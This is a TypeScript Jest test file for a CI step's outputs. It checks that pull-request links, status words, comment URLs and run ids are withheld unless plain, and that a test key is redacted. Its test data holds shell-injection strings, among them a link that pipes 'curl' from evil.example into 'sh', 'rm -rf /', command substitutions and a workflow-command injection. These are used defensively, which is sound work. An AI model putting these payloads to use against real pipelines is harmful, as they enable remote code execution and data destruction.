// The step outputs (src/report/outputs.ts): every output written, each as the contract names it.
import { describe, expect, test } from '@jest/globals';
import {
  commentUrlOutput,
  knowsJob,
  outputsOf,
  plainHttps,
  statusWord,
  WITHHELD_PR_LINK,
  writeOutputs,
} from '../../../src/report/outputs.js';
import { createRedactor } from '../../../src/common/redact.js';
import type { RunState } from '../../../src/report/round-view.js';
import { parseJobRecord } from '../../../src/service/record.js';

const KEY = 'mint_0f1e2d3c4b5a69788796a5b4c3d2e1f0';
const redact = createRedactor([KEY]);

function written(state: RunState): Record<string, string> {
  const outputs: Record<string, string> = {};
  writeOutputs(
    { setOutput: (name: string, value: string) => (outputs[name] = value) },
    state,
    redact,
  );
  return outputs;
}

const base: RunState = { timedOut: false, waitedMs: 0, commentUrl: '' };

describe('writeOutputs', () => {
  test('a job with its record: every output', () => {
    const raw = {
      id: 'job_1',
      status: 'completed',
      prLink: 'https://github.com/o/r/pull/3',
      extra: 1,
    };
    const record = parseJobRecord(raw);
    expect(record).toBeDefined();
    expect(
      written({
        ...base,
        jobId: 'job_1',
        record,
        timedOut: true,
        commentUrl: 'https://github.com/o/r/issues/1#c',
      }),
    ).toEqual({
      'job-id': 'job_1',
      status: 'completed',
      'pr-link': 'https://github.com/o/r/pull/3',
      'timed-out': 'true',
      job: JSON.stringify(raw),
      'comment-url': 'https://github.com/o/r/issues/1#c',
      'automation-run-id': '',
    });
  });

  test('nothing known yet: every output empty, timed-out false', () => {
    expect(written(base)).toEqual({
      'job-id': '',
      status: '',
      'pr-link': '',
      'timed-out': 'false',
      job: '',
      'comment-url': '',
      'automation-run-id': '',
    });
  });

  test('a record without a pull request: pr-link empty', () => {
    const record = parseJobRecord({ id: 'job_1', status: 'active', prLink: null });
    expect(written({ ...base, jobId: 'job_1', record })['pr-link']).toBe('');
  });
});

describe('knowsJob', () => {
  test('a job id alone, or a record alone, is a known job; neither is not', () => {
    const record = parseJobRecord({ id: 'job_1', status: 'active' });
    expect(knowsJob({ ...base, jobId: 'job_1' })).toBe(true);
    expect(knowsJob({ ...base, record })).toBe(true);
    expect(knowsJob(base)).toBe(false);
  });

  test("an automation's run alone is known too: its id is due in the outputs", () => {
    expect(knowsJob({ ...base, automationRunId: 'run_1' })).toBe(true);
  });
});

describe('automation-run-id', () => {
  test("the run's id, and the job's, as the service named them", () => {
    expect(written({ ...base, jobId: 'bg_1', automationRunId: 'run_1_ab' })).toMatchObject({
      'job-id': 'bg_1',
      'automation-run-id': 'run_1_ab',
    });
  });

  test.each([
    ['a space', 'run 1'],
    ['a command substitution', 'run_$(id)'],
    ['a slash', 'run/1'],
    ['a leading dot', '.run'],
    ['a line break', 'run_1\necho x'],
    ['empty', ''],
    ['the key', KEY],
    ['the key within it', `run_${KEY}`],
  ])('a run id with %s is left out: the same shell-safe rule as job-id', (_name, id) => {
    const outputs = written({ ...base, automationRunId: id });
    expect(outputs['automation-run-id']).toBe('');
    expect(JSON.stringify(outputs)).not.toContain(KEY.slice(5, 20));
  });
});

/** Text a shell would act on, in a `run:` script with the output interpolated, quoted or not. */
const HOSTILE_LINKS: Array<[string, string]> = [
  [
    'a quote that ends the string, then a command',
    'https://github.com/o/r/pull/31"; curl -s https://evil.example/x | sh; echo "',
  ],
  ['a command substitution', 'https://github.com/o/r/pull/$(id)'],
  ['a variable', 'https://github.com/o/r/pull/${HOME}'],
  ['backquotes', 'https://github.com/o/r/pull/`id`'],
  ['a line break', 'https://github.com/o/r/pull/31\necho pwned'],
  ['a carriage return', 'https://github.com/o/r/pull/31\r'],
  ['a javascript: address', 'javascript:alert(1)'],
  ['plain http', 'http://github.com/o/r/pull/31'],
  ['a query', 'https://github.com/o/r/pull/31?x=1'],
  ['a fragment', 'https://github.com/o/r/pull/31#x'],
  ['a space', 'https://github.com/o/r/pull/31 x'],
  ['a single quote', "https://github.com/o/r/pull/31'"],
  ['a semicolon', 'https://github.com/o/r/pull/31;id'],
  ['an ampersand', 'https://github.com/o/r/pull/31&id'],
  ['a pipe', 'https://github.com/o/r/pull/31|sh'],
  ['a redirection', 'https://github.com/o/r/pull/31>x'],
  ['a glob', 'https://github.com/o/r/pull/*'],
  ['a brace expansion', 'https://github.com/o/r/pull/{1,2}'],
  ['a backslash', 'https://github.com/o/r/pull/31\\'],
  ['a NUL', 'https://github.com/o/r/pull/31\u0000'],
  ['user and password', 'https://user:pw@github.com/o/r/pull/31'],
  ['no host', 'https:///o/r/pull/31'],
  ['a port that is not a number', 'https://github.com:x/o'],
  ['a non-ASCII path', 'https://github.com/o/r/pull/3\u202e1'],
  ['white space before it', ' https://github.com/o/r/pull/31'],
];

describe('pr-link holds only a plain https address', () => {
  test.each(HOSTILE_LINKS)('%s is withheld', (_name, link) => {
    expect(plainHttps(link)).toBeUndefined();
    const record = parseJobRecord({ id: 'job_1', status: 'completed', prLink: link });
    const outputs = outputsOf({ ...base, jobId: 'job_1', record }, redact);
    expect(outputs.values['pr-link']).toBe('');
    expect(outputs.withheldPrLink).toBe(link);
    // The record as the service wrote it stays in `job`.
    expect(JSON.parse(outputs.values.job)).toMatchObject({ prLink: link });
  });

  test.each([
    'https://github.com/o/r/pull/31',
    'https://ghe.example.com:8443/org/docs-site/pull/7',
    'https://gitlab.example.com/a/b/-/merge_requests/3',
    'https://example.com/a~b/c%20d+e_f.g',
    'https://example.com',
  ])('%s is kept', (link) => {
    expect(plainHttps(link)).toBe(link);
    const record = parseJobRecord({ id: 'job_1', status: 'completed', prLink: link });
    const outputs = outputsOf({ ...base, jobId: 'job_1', record }, redact);
    expect(outputs.values['pr-link']).toBe(link);
    expect(outputs.withheldPrLink).toBeUndefined();
  });

  test('a link that echoes the key is withheld: `***` is not plain', () => {
    const record = parseJobRecord({
      id: 'job_1',
      status: 'completed',
      prLink: `https://github.com/o/r/pull/${KEY}`,
    });
    const outputs = outputsOf({ ...base, jobId: 'job_1', record }, redact);
    expect(outputs.values['pr-link']).toBe('');
    expect(outputs.withheldPrLink).toBe('https://github.com/o/r/pull/***');
  });

  test('no link, or an empty one, is not withheld: nothing to warn about', () => {
    for (const prLink of [undefined, null, '']) {
      const record = parseJobRecord({ id: 'job_1', status: 'completed', prLink });
      expect(outputsOf({ ...base, jobId: 'job_1', record }, redact).withheldPrLink).toBeUndefined();
    }
  });

  test('writeOutputs returns the withheld link', () => {
    const record = parseJobRecord({ id: 'job_1', status: 'completed', prLink: 'javascript:x' });
    const state = { ...base, jobId: 'job_1', record };
    expect(writeOutputs({ setOutput: () => undefined }, state, redact)).toBe('javascript:x');
  });
});

describe('status holds only a plain word', () => {
  test.each([
    'active',
    'completed',
    'archived',
    'failed',
    'in_progress',
    'Queued-2',
    'x'.repeat(32),
  ])('%p is kept', (status) => {
    expect(statusWord(status)).toBe(status);
  });

  test.each([
    'completed\n::add-mask::x',
    '$(id)',
    '`id`',
    'done; rm -rf /',
    'a b',
    'x'.repeat(33),
    'été',
    `${KEY}`,
  ])('%p becomes unknown', (status) => {
    const record = parseJobRecord({ id: 'job_1', status });
    expect(outputsOf({ ...base, jobId: 'job_1', record }, redact).values.status).toBe('unknown');
  });
});

describe('comment-url and job-id hold only plain values', () => {
  test('a comment address from GitHub is kept, with its #issuecomment fragment', () => {
    const url = 'https://github.com/acme/docs/issues/5#issuecomment-123';
    expect(commentUrlOutput(url)).toBe(url);
    expect(commentUrlOutput('https://github.com/acme/docs/issues/5')).toBe(
      'https://github.com/acme/docs/issues/5',
    );
  });

  test('a GitHub Enterprise Server on plain http, with a port, is kept', () => {
    const url = 'http://ghe.internal:8080/acme/docs/issues/5#issuecomment-7';
    expect(commentUrlOutput(url)).toBe(url);
    expect(outputsOf({ ...base, commentUrl: url }, redact).values['comment-url']).toBe(url);
  });

  test.each([
    'https://github.com/acme/docs/issues/5#x"; id; "',
    'https://github.com/a/b/issues/5$(id)#issuecomment-1',
    'javascript:alert(1)#issuecomment-1',
    '#issuecomment-1',
    'https://github.com/a/b/issues/5#issuecomment-1\n',
    'https://github.com/a/b/issues/5#issue comment',
    'https://github.com/a/b/issues/5#a#b',
    'ftp://github.com/a/b/issues/5',
    ' https://github.com/a/b/issues/5',
  ])('a comment address %p that is not plain becomes empty', (url) => {
    expect(commentUrlOutput(url)).toBe('');
    expect(outputsOf({ ...base, commentUrl: url }, redact).values['comment-url']).toBe('');
  });

  test('a job id that the key would turn into `***` is left out', () => {
    expect(outputsOf({ ...base, jobId: KEY }, redact).values['job-id']).toBe('');
  });
});

test('the warning for a withheld link says what was left out, why, and where the link is', () => {
  expect(WITHHELD_PR_LINK).toBe(
    "the service's pull request link is not a plain https address, so the pr-link output was left empty; the job output has the record exactly as the service sent it",
  );
});
